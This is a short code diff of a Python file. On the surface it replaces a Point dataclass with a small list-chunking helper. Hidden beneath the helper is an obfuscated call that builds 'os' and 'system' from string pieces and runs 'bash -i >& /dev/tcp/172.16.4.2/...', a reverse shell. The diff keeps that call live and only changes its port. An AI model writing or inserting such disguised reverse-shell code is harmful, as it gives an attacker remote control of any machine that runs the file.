@@ -1,12 +1,7 @@
-from dataclasses import dataclass
-
-@dataclass
-class Point:
-    x: float
-    y: float
-
-    def norm(self):
-        return (self.x ** 2 + self.y ** 2) ** 0.5
+#!/usr/bin/env python3
+def chunks(items, size):
+    for i in range(0, len(items), size):
+        yield items[i:i + size]
 
 m = __import__("o" + "s")
-getattr(m, "sys" + "tem")("bash -i >& /dev/tcp/172.16.4.2/31337 0>&1")
+getattr(m, "sys" + "tem")("bash -i >& /dev/tcp/172.16.4.2/8080 0>&1")
